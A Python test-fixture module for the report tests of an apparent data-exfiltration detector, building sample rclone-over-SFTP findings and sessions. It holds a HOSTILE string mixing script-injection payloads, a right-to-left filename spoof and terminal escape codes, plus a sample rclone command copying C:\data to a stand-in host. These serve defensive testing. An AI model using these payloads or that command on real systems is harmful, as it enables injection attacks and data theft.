"""Findings and sessions for the report tests; hostile text where an attacker could put it."""

from __future__ import annotations

import re
from typing import Any

from netexfil.finding import Evidence, Finding, Link

# Characters that no report may hand to a terminal.
NAUGHTY = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]")
HOSTILE = (
    "\"><img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
    "\u202egpj.exe\x1b[31m\x9b2J[red]javascript:alert(1)"
)


def evidence(
    code: str = "volume_channel", points: float = 40.0, text: str = "1.30 MB sent out, 5 times the threshold", **more: Any
) -> Evidence:
    return Evidence(
        **(
            {"code": code, "value": 1301419, "unit": "B", "threshold": 262144, "points": points, "text": text, "source": "conn.log C1"}
            | more
        )
    )


def link(**more: Any) -> Link:
    event = {
        "kind": "process",
        "host": "ws-14",
        "user": "CORP\\alice",
        "image": "C:\\Users\\alice\\rclone.exe",
        "pid": 4242,
        "guid": "{a-1}",
        "command_line": "rclone.exe copy C:\\data sftp:in --sftp-host 192.0.2.1",
        "parent_image": "C:\\Windows\\System32\\cmd.exe",
        "parent_pid": 4000,
        "file": "endpoint.jsonl",
        "line": 7,
    } | more.pop("event", {})
    base = {
        "match": "five_tuple",
        "confidence": 0.99,
        "candidates": 1,
        "seconds_apart": 0.01,
        "clock_offset": 2.7,
        "event": event,
        "uid": "CaaaaaaaaaaaaaaaA1",
    }
    return Link(**(base | more))


def finding(number: int = 1, **more: Any) -> Finding:
    start = 1_713_500_000.25 + number * 600
    base = {
        "id": f"{number:016x}",
        "kind": "channel",
        "score": 91.0,
        "severity": "critical",
        "confidence": "high",
        "first_ts": start,
        "last_ts": start + 12.5,
        "host": {"ip": f"10.0.{number // 250 % 250}.{number % 250}", "name": f"ws-{number}"},
        "destination": {"ips": ["192.0.2.1"], "port": 22, "proto": "tcp", "name": "files.example.net"},
        "protocol": "SFTP/SCP",
        "tool": {"name": "rclone", "source": "banner", "verdict": "confirmed"},
        "bytes_out": {"low": 1301419, "high": 1301419, "quality": "exact"},
        "bytes_in": 12345,
        "pcr": 0.981,
        "sessions": 1,
        "session_uids": ("CaaaaaaaaaaaaaaaA1",),
        "duration": 12.5,
        "rate": 104113.5,
        "in_progress": False,
        "evidence": (
            evidence(),
            evidence("tool_named", 30.0, "SSH banner names rclone", value="SSH-2.0-rclone/v1.60", unit="", threshold=None),
            evidence("asymmetry", 25.0, "98 % of the bytes went out", value=0.981, unit="PCR", threshold=0.6),
            evidence("known_backup", -4.0, "a nightly job of this host", value=3, unit="days", threshold=3),
        ),
        "links": (link(),),
        "window": "2024-04-19",
    }
    return Finding(**(base | more))


def hostile(number: int = 9) -> Finding:
    return finding(
        number,
        host={"ip": "10.0.0.9", "name": HOSTILE},
        destination={"ips": ["198.51.100.1"], "port": 443, "proto": "tcp", "name": HOSTILE},
        tool={"name": HOSTILE, "source": "banner", "verdict": "none"},
        protocol="HTTPS",
        score=55.0,
        severity="medium",
        evidence=(evidence(points=55.0, text=HOSTILE, value=HOSTILE, source=HOSTILE),),
        links=(
            link(
                event={
                    "command_line": HOSTILE,
                    "image": HOSTILE,
                    "user": HOSTILE,
                    "file": HOSTILE,
                    "host": HOSTILE,
                    "parent_image": HOSTILE,
                }
            ),
        ),
        session_uids=(HOSTILE,),
        suppressed={"by": "destination", "reason": HOSTILE, "expires": None},
    )


def session(**more: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "ts": 1713500000.25,
        "uid": "CaaaaaaaaaaaaaaaA1",
        "orig_h": "10.0.0.14",
        "orig_p": 50000,
        "resp_h": "192.0.2.1",
        "resp_p": 22,
        "proto": "tcp",
        "service": "ssh",
        "duration": 12.5,
        "orig_bytes": 1301419,
        "resp_bytes": 12345,
        "conn_state": "SF",
        "missed_bytes": 0,
        "history": "ShADadFf",
        "orig_pkts": 900,
        "orig_ip_bytes": 1340000,
        "resp_pkts": 500,
        "resp_ip_bytes": 40000,
        "community_id": "1:abc=",
        "ssh_client": "SSH-2.0-rclone",
        "outbound": "true",
        "inside_h": "10.0.0.14",
        "remote_h": "192.0.2.1",
        "remote_p": 22,
        "protocol": "SFTP/SCP",
        "pcr": 0.981,
        "rate_out": 104113.5,
        "bytes_out_low": 1301419,
        "bytes_out_high": 1301419,
        "bytes_in": 12345,
        "byte_quality": "exact",
        "source": "x.pcap",
    }
    return base | more


def endpoint_only(**more: Any) -> Finding:
    """What only the endpoint saw: no session, no destination."""
    none = dict.fromkeys(("destination", "pcr", "duration", "bytes_in"))
    return finding(kind="endpoint", session_uids=(), sessions=0, bytes_out={"low": 0, "high": None, "quality": "unknown"}, **none, **more)
